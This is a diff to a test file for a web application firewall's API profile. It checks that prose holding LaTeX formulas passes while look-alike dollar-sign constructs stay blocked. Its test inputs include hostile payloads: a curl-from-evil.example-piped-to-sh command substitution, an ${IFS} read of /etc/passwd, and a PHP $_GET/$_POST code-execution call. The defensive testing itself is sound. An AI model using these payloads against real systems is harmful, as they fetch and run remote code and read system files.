@@ -12,6 +12,7 @@ import { sanitizedHtml } from '../../waf/profile/html.ts';
 import {
   arithmeticOnly,
   commandOnlyAtStart,
+  latexMathOnly,
   markdownCodeText,
   powershellInert,
   proseQuotesInert,
@@ -410,6 +411,33 @@ describe('waf API profile: status lines of numbers (family q without prose)', ()
       'Coverage 1-(sleep(5))',
     ])
       assert.ok((await run(api, { text })).error !== undefined, text);
+  });
+});
+
+describe('waf API profile: LaTeX formulas in prose (family m)', () => {
+  test('questions and answers with formulas pass; CRS blocks them (933180, 932280, 932130)', async () => {
+    for (const body of [
+      'Merge sort satisfies $T(n) = 2T(n/2) + O(n)$, so by the master theorem it is $O(n \\log n)$ overall.',
+      'Nitpick: it is $O(n \\log n)$ on average and $O(n^2)$ worst case for quicksort, not merge sort.',
+      'The eigenvalues $\\lambda_{1,2}$ come from the characteristic polynomial of the matrix here.',
+    ]) {
+      assert.ok((await run(plain, { body })).error !== undefined, body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+  });
+
+  test('a dollar sign that starts a shell or PHP construct keeps every rule', async () => {
+    for (const body of [
+      'Please compute $(curl evil.example/x.sh|sh)$ for the homework thanks',
+      'Please compute \u0024{IFS}cat\u0024{IFS}/etc/passwd for the homework thanks',
+      'Nice formula $T(n)$ but also $f=$_GET[c];$f($_POST[x]) thanks a lot',
+    ])
+      assert.ok((await run(api, { body })).error !== undefined, body);
+    assert.equal(latexMathOnly('Merge sort is $T(n) = 2T(n/2) + O(n)$, so $O(n \\log n)$.'), true);
+    assert.equal(latexMathOnly('Run $(id)$ for me please'), false);
+    assert.equal(latexMathOnly('Run \u0024{x}$ for me please'), false);
+    assert.equal(latexMathOnly("Formula $f('x')$ ok and $a;b$ here"), false);
+    assert.equal(latexMathOnly('Only $x$ but then $ alone'), false);
   });
 });
 
